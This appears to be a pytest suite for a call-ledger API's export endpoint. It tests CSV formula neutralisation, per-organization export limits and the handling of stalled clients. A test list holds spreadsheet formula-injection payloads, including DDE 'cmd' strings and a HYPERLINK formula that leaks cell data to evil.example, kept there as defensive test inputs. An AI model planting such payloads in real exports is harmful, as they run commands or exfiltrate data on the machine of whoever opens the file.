"""`api.export` (SPEC §9 export, §14 "Exports are safe to open and cheap to refuse"):

- CSV text cells that a spreadsheet would run as a formula get a leading `'`; numbers do not;
  JSON is unchanged;
- at most LEDGER_MAX_EXPORTS exports run at once per organization: 429 + Retry-After beyond,
  while another organization (or an unscoped token) still gets its export;
- a client that stops reading is cut off after LEDGER_WRITE_TIMEOUT_S and its slot given back
  (a real `call-ledger api` process, a raw socket that stops reading);
- 40 stalled exports do not grow the API process's memory by more than a small bound.
"""

import asyncio
import csv
import io
import json
import socket
import tempfile
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from call_ledger.api.export import FORMULA_PREFIXES, _exact_decimal, csv_rows, neutralise
from call_ledger.api.openapi import openapi_document
from call_ledger.app import create_app
from call_ledger.core.events import CallEvent, Cost
from call_ledger.core.money import MAX_AMOUNT_NANO, format_nano
from call_ledger.settings import Settings
from call_ledger.store import Store
from call_ledger.web.metrics import Metrics
from call_ledger.worker.consumer import Consumer
from tests.support.redis_server import RedisServer, require_redis
from tests.support.service import start_service, stop
from tests.support.settings import make_settings
from tests.support.workers import FailingRead, platform_event

ADMIN = "admin-token"
ORG7 = "org-seven-token"
ORG8 = "org-eight-token"
TOKENS = f"{ADMIN},7={ORG7},8={ORG8}"
BASE_US = 1_764_000_000_000_000  # 2025-11-24T16:00:00Z
EXPORT = "/api/v1/calls/export"

DANGEROUS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def auth(token: str = ADMIN) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


event = platform_event


async def load(store: Store, settings: Settings, events: list[CallEvent]) -> None:
    await asyncio.gather(*(store.append(e.model_dump_json().encode(), e.call_sid) for e in events))
    await Consumer(store, settings, Metrics()).run_burst()


@pytest.fixture
def settings() -> Settings:
    return make_settings(api_tokens=TOKENS)


# -- CSV cells ------------------------------------------------------------------------------------

def test_a_text_cell_that_could_start_a_formula_gets_a_leading_quote() -> None:
    for prefix in FORMULA_PREFIXES:
        assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"
    for safe in ("", "Sales bot", "'already quoted", " =1", "1-2", "x=1", "{}", "CA123"):
        assert neutralise(safe) == safe


def test_numbers_are_not_touched_even_when_negative() -> None:
    record: dict[str, Any] = {
        "call_sid": "-CA", "to_phone_number": "+15550000000", "customer_phone_number": "-", "id": -5,
        "assistant_id": -7, "status": "completed", "call_meta": {}, "assistant_name": None, "flow_name": "@f",
        "duration": -60, "started_at": None, "ended_at": None, "total_cost": -300_000_000, "llm_cost": -1,
        "tts_cost": None, "stt_cost": None, "telephony_cost": None, "cost_currency": "USD"}
    [row] = list(csv.reader(io.StringIO(csv_rows([record]))))
    assert row == ["'-CA", "'+15550000000", "'-", "-5", "-7", "completed", "{}", "", "'@f", "-60", "", "",
                   "-0.3", "-0.000000001", "", "", "", "USD"]


async def test_csv_export_neutralises_formulas_in_every_text_cell(aiohttp_client: Any, store: Store,
                                                                  settings: Settings) -> None:
    events: list[CallEvent] = []
    for i, text in enumerate(DANGEROUS):
        sid = f"CA-csv-{i}"
        us = BASE_US + i * 1_000_000
        events += [event(sid, "s", us, status="completed", duration=61 + i),
                   event(sid, "m", us + 1, organization_id=7, assistant_id=40 + i, assistant_name=text,
                         flow_name=text, customer_phone_number="+1555000000" + str(i), to_phone_number=text,
                         call_meta={"note": text, "n": -1}),
                   event(sid, "u", us + 2, costs=(Cost(component="llm", amount_nano=300_000_000 + i,
                                                       currency="USD"),))]
    events.append(event(text_sid := "=1+1", "m", BASE_US - 1, status="ringing"))  # a SID is text too
    await load(store, settings, events)
    api = await aiohttp_client(create_app(settings, "api", store))

    as_json = await api.get(EXPORT, headers=auth(), params={"format": "json"})
    records = {r["call_sid"]: r for r in orjson.loads(await as_json.read())}
    assert len(records) == len(DANGEROUS) + 1

    response = await api.get(EXPORT, headers=auth(), params={"format": "csv"})
    assert response.status == 200
    header, *rows = list(csv.reader(io.StringIO((await response.read()).decode(), newline="")))
    assert len(rows) == len(DANGEROUS) + 1
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        sid = cells["call_sid"].removeprefix("'")
        record = records[sid]  # JSON export: unchanged, the raw text
        if sid == text_sid:
            assert cells["call_sid"] == "'=1+1" and cells["status"] == "ringing"
            continue
        text = DANGEROUS[int(sid.rsplit("-", 1)[1])]
        assert record["assistant_name"] == record["flow_name"] == record["to_phone_number"] == text
        for key in ("assistant_name", "flow_name", "to_phone_number"):
            assert cells[key] == "'" + text, key
        assert cells["customer_phone_number"] == "'" + record["customer_phone_number"]  # +1555…: text
        assert record["customer_phone_number"].startswith("+1555")
        # call_meta is JSON text, which starts with `{`: kept as it is, and parses back to the object.
        assert orjson.loads(cells["call_meta"]) == record["call_meta"] == {"n": -1, "note": text}
        # Numbers are numbers: the same digits as the JSON export, no quote.
        assert cells["id"] == str(record["id"]) and cells["assistant_id"] == str(record["assistant_id"])
        assert cells["duration"] == str(record["duration"])
        assert cells["llm_cost"] == cells["total_cost"] == str(record["llm_cost"])
        assert cells["started_at"] == record["started_at"] and cells["cost_currency"] == "USD"


# -- the per-organization cap --------------------------------------------------------------------

async def test_exports_beyond_the_cap_are_429_per_organization(aiohttp_client: Any, store: Store,
                                                               monkeypatch: Any) -> None:
    from call_ledger.api import listing

    settings = make_settings(api_tokens=TOKENS, max_exports=1)
    events: list[CallEvent] = []
    for org in (7, 8):
        for i in range(4):
            sid = f"CA-cap-{org}-{i}"
            events += [event(sid, "s", BASE_US + i, status="completed"), event(sid, "m", BASE_US + i + 1,
                                                                               organization_id=org)]
    await load(store, settings, events)
    monkeypatch.setattr(listing, "EXPORT_BATCH", 1)
    # Org 7's export is held mid-stream (after its first row): its second read waits for the gate.
    gate, held = asyncio.Event(), asyncio.Event()
    real = store.calls_fields
    reads = {"org7": 0}

    async def gated(sids: list[str]) -> Any:
        if any(sid.startswith("CA-cap-7-") for sid in sids):
            reads["org7"] += 1
            if reads["org7"] == 2:  # that export's second read; later exports' reads pass
                held.set()
                await gate.wait()
        return await real(sids)

    monkeypatch.setattr(store, "calls_fields", gated)
    api = await aiohttp_client(create_app(settings, "api", store))
    first = await api.get(EXPORT, headers=auth(ORG7), params={"format": "json"})
    assert first.status == 200
    await asyncio.wait_for(held.wait(), 10)

    refused = await api.get(EXPORT, headers=auth(ORG7), params={"format": "csv", "status": "busy"})
    assert refused.status == 429
    assert int(refused.headers["Retry-After"]) >= 1
    body = await refused.json()
    assert body["error"] == "too_many_exports" and "at most 1" in body["detail"]
    # Another organization, and an unscoped token (a bucket of its own), are not held up.
    other = await api.get(EXPORT, headers=auth(ORG8), params={"format": "json"})
    assert other.status == 200
    assert sorted(r["call_sid"] for r in orjson.loads(await other.read())) == [f"CA-cap-8-{i}" for i in range(4)]
    admin = await api.get(EXPORT, headers=auth(), params={"format": "json"})
    assert admin.status == 200 and len(orjson.loads(await admin.read())) == 8

    gate.set()
    assert len(orjson.loads(await first.read())) == 4
    again = await api.get(EXPORT, headers=auth(ORG7), params={"format": "json"})  # the slot was given back
    assert again.status == 200 and len(orjson.loads(await again.read())) == 4


async def test_a_refused_or_failed_export_gives_its_slot_back(aiohttp_client: Any, store: Store) -> None:
    settings = make_settings(api_tokens=TOKENS, max_exports=1)
    api = await aiohttp_client(create_app(settings, "api", store))
    for _ in range(3):
        assert (await api.get(EXPORT, headers=auth(ORG7), params={"format": "xml"})).status == 422
        assert (await api.get(EXPORT, headers=auth(ORG7), params={"format": "json"})).status == 200


def test_settings_validate_the_export_limits() -> None:
    defaults = make_settings()
    assert defaults.write_timeout_s == 30 and defaults.max_exports == 2
    for bad in ({"write_timeout_s": 0}, {"write_timeout_s": -1}, {"max_exports": 0}):
        with pytest.raises(ValueError):
            make_settings(**bad)


def test_openapi_describes_the_429_of_export() -> None:
    responses = openapi_document()["paths"][EXPORT]["get"]["responses"]
    assert "429" in responses
    assert "Retry-After" in responses["429"]["headers"]
    assert responses["429"]["content"]["application/json"]["schema"] == {"$ref": "#/components/schemas/Error"}


# -- stalled readers, against a real process ------------------------------------------------------

NAME = "=HYPERLINK(\"http://evil.example\",\"x\") " + "n" * 180
META = {"notes": "m" * 600, "campaign": "@winter", "n": 3}
CALLS = 12_000


async def fill(url: str, calls: int) -> None:
    """`calls` calls of organization 7, each with a ~1 KB CSV row, applied by a burst worker."""
    settings = make_settings(redis_url=url, batch_size=1000)
    store = Store.from_settings(settings)
    try:
        await store.ensure_group()
        for start in range(0, calls, 2000):
            events: list[CallEvent] = []
            for i in range(start, min(calls, start + 2000)):
                sid = f"CA{i:030d}"
                us = BASE_US + i * 1000
                events += [event(sid, "s", us, status="completed", duration=i % 600),
                           event(sid, "m", us + 1, organization_id=7, assistant_id=i % 50, assistant_name=NAME,
                                 customer_phone_number=f"+1555{i:07d}", call_meta=META)]
            await asyncio.gather(*(store.append(e.model_dump_json().encode(), e.call_sid) for e in events))
        await Consumer(store, settings, Metrics()).run_burst()
    finally:
        await store.close()


def stalled_export(port: int, token: str, query: str = "format=csv") -> socket.socket:
    """A client that asks for an export with a tiny receive window and then never reads."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)  # before connect: the window it offers
    sock.connect(("127.0.0.1", port))
    sock.sendall(f"GET {EXPORT}?{query} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\n"
                 "\r\n".encode())
    return sock


def wait_for_bytes(sock: socket.socket, deadline: float) -> None:
    """Until the server has started sending (peeked, never read)."""
    sock.settimeout(max(0.1, deadline - time.monotonic()))
    assert sock.recv(1, socket.MSG_PEEK), "the server closed the export before sending anything"


def export_status(port: int, token: str, query: str) -> tuple[int, dict[str, str], bytes]:
    request = urllib.request.Request(f"http://127.0.0.1:{port}{EXPORT}?{query}", headers=auth(token))
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return int(response.status), dict(response.headers), response.read()
    except urllib.error.HTTPError as error:
        return int(error.code), dict(error.headers), error.read()


def rss_bytes(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmRSS")


@pytest.fixture(scope="module")
def filled_redis() -> Iterator[RedisServer]:
    """One redis-server with 12,000 calls (a CSV export of some 12 MB) for the process tests,
    which only read it."""
    require_redis()
    with tempfile.TemporaryDirectory() as directory:
        server = RedisServer(Path(directory))
        server.start()
        try:
            asyncio.run(fill(server.url, CALLS))
            yield server
        finally:
            server.stop()


@pytest.mark.real_redis
def test_a_client_that_stops_reading_is_cut_off_and_its_slot_given_back(filled_redis: RedisServer) -> None:
    timeout = 2.0
    proc = start_service("api", LEDGER_REDIS_URL=filled_redis.url, LEDGER_API_TOKENS=TOKENS,
                               LEDGER_WRITE_TIMEOUT_S=str(timeout), LEDGER_MAX_EXPORTS="1",
                               LEDGER_LOG_FORMAT="json")
    port = proc.port
    small = "format=csv&status=busy"  # no such call: an export of the header alone
    sock: socket.socket | None = None
    try:
        started = time.monotonic()
        sock = stalled_export(port, ORG7)
        wait_for_bytes(sock, started + 20)
        status, headers, _ = export_status(port, ORG7, small)
        assert status == 429 and int(headers["Retry-After"]) >= 1  # the stalled export holds the slot
        released = None
        while time.monotonic() < started + timeout + 30:  # poll: the next export succeeds once it is cut off
            status, _, body = export_status(port, ORG7, small)
            if status == 200:
                released = time.monotonic() - started
                assert body.decode().startswith("call_sid,")
                break
            assert status == 429
            time.sleep(0.1)
        assert released is not None, "the stalled export still holds its slot"
        assert released >= timeout * 0.9  # not cut off before the timeout...
        assert released < timeout + 15  # ...and soon after it (a loose bound: the machine is shared)
        # The stalled client finds its connection closed, its transfer truncated.
        received = bytearray()
        sock.settimeout(10)
        try:
            while chunk := sock.recv(65536):
                received += chunk
        except ConnectionResetError:
            pass
        sock.close()
        assert received.startswith(b"HTTP/1.1 200")
        assert not received.endswith(b"0\r\n\r\n")  # never the end of a complete chunked body
        assert len(received) < CALLS * 900
    finally:
        if sock is not None:
            sock.close()  # on a failure too: the process then stops without waiting for it
        _, out, _ = stop(proc)
    lines = [json.loads(line) for line in out.splitlines() if line.startswith("{")]
    [stalled] = [line for line in lines if line["event"] == "export_stalled"]
    assert stalled["organization_id"] == 7 and stalled["write_timeout_s"] == timeout
    assert 0 < stalled["rows"] < CALLS


@pytest.mark.real_redis
def test_forty_stalled_exports_keep_the_api_memory_flat(filled_redis: RedisServer) -> None:
    proc = start_service("api", LEDGER_REDIS_URL=filled_redis.url, LEDGER_API_TOKENS=TOKENS,
                               LEDGER_WRITE_TIMEOUT_S="300", LEDGER_MAX_EXPORTS="40", LEDGER_LOG_FORMAT="json")
    port = proc.port
    sockets: list[socket.socket] = []
    try:
        status, _, body = export_status(port, ORG7, "format=csv")  # warm: one whole export, read
        assert status == 200 and len(body) > 10 * 1024 * 1024  # an export of many MB
        baseline = rss_bytes(proc.pid)
        deadline = time.monotonic() + 60
        for _ in range(40):
            sockets.append(stalled_export(port, ORG7))
        for sock in sockets:
            wait_for_bytes(sock, deadline)
        # Every export is now writing into a full socket; sample the RSS while they sit there.
        peak = baseline
        for _ in range(20):
            peak = max(peak, rss_bytes(proc.pid))
            time.sleep(0.1)
        grown = peak - baseline
        print(f"API RSS: {baseline / 2**20:.1f} MiB after one export, {peak / 2**20:.1f} MiB with 40 stalled "
              f"exports (+{grown / 2**20:.1f} MiB)")
        assert grown < 60 * 2**20, f"40 stalled exports grew the API's RSS by {grown / 2**20:.1f} MiB"
        # They were really stalled: each still holds its slot (none finished or failed).
        status, headers, _ = export_status(port, ORG7, "format=csv&status=busy")
        assert status == 429 and "Retry-After" in headers
    finally:
        for sock in sockets:
            sock.close()
        stop(proc)


async def test_rows_from_stored_records_are_the_rows_rendered_from_the_state(store: Store) -> None:
    """The export writes rows from the record the worker stored ready (`j`): byte for byte the
    rows rendered from each call's state (money exact, call_meta, hostile text, nulls), and
    calls committed before `j` existed (no `j`) export as before."""
    from call_ledger.api.export import csv_rows_of_calls, json_rows
    from call_ledger.core.rules import CallState, record_json, render_record
    from call_ledger.core.served import StoredCall

    settings = make_settings(api_tokens=TOKENS)
    events: list[CallEvent] = []
    for i, name in enumerate([*DANGEROUS, "plain", None]):
        sid = f"CA-fast-{i}"
        events += [event(sid, "s", BASE_US + i, status="completed" if i % 2 else "busy",
                         **({"duration": 7 * i} if i % 2 else {})),
                   event(sid, "m", BASE_US + i + 1, assistant_id=i, organization_id=7,
                         **({"assistant_name": name} if name is not None else {}),
                         customer_phone_number="+15551230000", call_meta={"k": name, "n": 1.5, "i": i}),
                   event(sid, "u", BASE_US + i + 2, costs=(Cost(component="llm", amount_nano=10**18 // 7 + i,
                                                                 currency="USD"),))]
    await load(store, settings, events)
    sids = [f"CA-fast-{i}" for i in range(len(DANGEROUS) + 2)]
    calls = [(sid, fields) for sid, fields in zip(sids, await store.calls_fields(sids), strict=True)
             if fields is not None]
    # Current records: the export reads the stored record and call_meta, not the state.
    assert len(calls) == len(sids) and all(b"j" in fields and b"s" not in fields for _, fields in calls)
    records = []
    for sid in sids:
        found = CallState.from_hash(await store.call_fields(sid) or {})
        assert found is not None
        records.append(render_record(sid, *found, settings.policy))
    assert csv_rows_of_calls([StoredCall(*c) for c in calls], settings.policy) == csv_rows(records)
    assert json_rows([StoredCall(*c) for c in calls], settings.policy) == b",".join(record_json(r) for r in records)
    for sid in sids[::2]:  # as a version before `j` left them; the others' `j` of an older version
        await store.redis.hdel(store.call_key(sid), "j")
    for sid in sids[1::2]:
        await store.redis.hincrby(store.call_key(sid), "v", 1)
    legacy = [(sid, fields) for sid, fields in zip(sids, await store.calls_fields(sids), strict=True)
              if fields is not None]
    assert len(legacy) == len(sids) and all(b"s" in fields for _, fields in legacy)  # the whole hash
    assert csv_rows_of_calls([StoredCall(*c) for c in legacy], settings.policy) == csv_rows(records)
    assert json_rows([StoredCall(*c) for c in legacy], settings.policy) == b",".join(record_json(r) for r in records)
    # A SID with no record is left out (None), whatever the others are.
    assert await store.calls_fields(["CA-none", sids[0]]) == [None, legacy[0][1]]


# -- rows written from the stored record: the same text as from the state -------------------------

NANO_AMOUNTS = st.one_of(st.integers(-MAX_AMOUNT_NANO, MAX_AMOUNT_NANO), st.integers(-10**6, 10**6),
                         st.integers(-(2**22) * 10**9, 2**22 * 10**9).map(lambda n: n - n % 1000))


@given(NANO_AMOUNTS)
def test_money_read_as_a_float_is_written_as_its_exact_stored_text(nano: int) -> None:
    text = format_nano(nano)
    value = orjson.loads(text)
    if isinstance(value, float):
        assert _exact_decimal(value) in (None, text)


CELL_TEXT = st.one_of(st.none(), st.text(max_size=12),
                      st.sampled_from(["", "a,b", 'say "hi"', "line\nbreak", "cr\rx", *DANGEROUS, "+1555", "-"]))


@hsettings(max_examples=200, deadline=None)
@given(st.fixed_dictionaries({key: CELL_TEXT for key in ("call_sid", "to_phone_number", "customer_phone_number",
                                                         "status", "assistant_name", "flow_name", "started_at",
                                                         "ended_at", "cost_currency")}),
       st.lists(st.one_of(st.none(), st.integers(-(2**53), 2**53)), min_size=3, max_size=3),
       st.lists(st.one_of(st.none(), NANO_AMOUNTS), min_size=5, max_size=5),
       st.dictionaries(st.text(max_size=5), st.one_of(st.text(max_size=8), st.integers(-(2**53), 2**53), st.none()),
                       max_size=3))
def test_a_row_from_the_stored_record_is_the_row_rendered_from_the_record(
        texts: dict[str, Any], numbers: list[int | None], money: list[int | None], meta: dict[str, Any]) -> None:
    from call_ledger.api.export import csv_rows_of_calls
    from call_ledger.core.rules import META_FIELD, MONEY_FIELDS
    from call_ledger.core.served import StoredCall, stored_record

    meta = dict(sorted(meta.items()))  # as a record renders its call_meta
    record = {**texts, "id": numbers[0], "assistant_id": numbers[1], "duration": numbers[2], "call_meta": meta,
              **dict(zip(MONEY_FIELDS, money, strict=True))}
    record["call_sid"] = record["call_sid"] or "CA"
    fields = {b"id": b"1", b"v": b"4", b"j": stored_record(record, 4),
              **{(META_FIELD + name).encode(): orjson.dumps([1, "m", "platform", value])
                 for name, value in meta.items()}}
    assert csv_rows_of_calls([StoredCall(record["call_sid"], fields)], make_settings().policy) == csv_rows([record])


async def test_a_read_ahead_that_failed_after_the_client_went_is_taken_not_logged(store: Store) -> None:
    """An export cut off while its next batch's read fails: nothing awaits that read any more, and
    asyncio must not log 'Task exception was never retrieved' for it."""
    import asyncio
    import gc

    from call_ledger.api import listing
    from call_ledger.api.query import CallFilter

    settings = make_settings(api_tokens=TOKENS)
    now = int(time.time() * 1e6)
    await load(store, settings, [event(f"CA{i}", f"s{i}", now - i, status="completed", duration=5)
                                 for i in range(350)])
    logged: list[str] = []
    asyncio.get_running_loop().set_exception_handler(lambda _, context: logged.append(context["message"]))
    flaky = FailingRead(store, ConnectionError("redis lost"))
    store.calls_fields = flaky  # type: ignore[method-assign]
    export = listing.export(store, store.indexes, CallFilter(), None)
    assert await anext(export)  # the first batch; the second's read is in flight, and fails
    await asyncio.sleep(0.1)
    await export.aclose()  # the client is cut off
    del export
    gc.collect()
    await asyncio.sleep(0.05)
    assert flaky.calls == 2 and logged == []
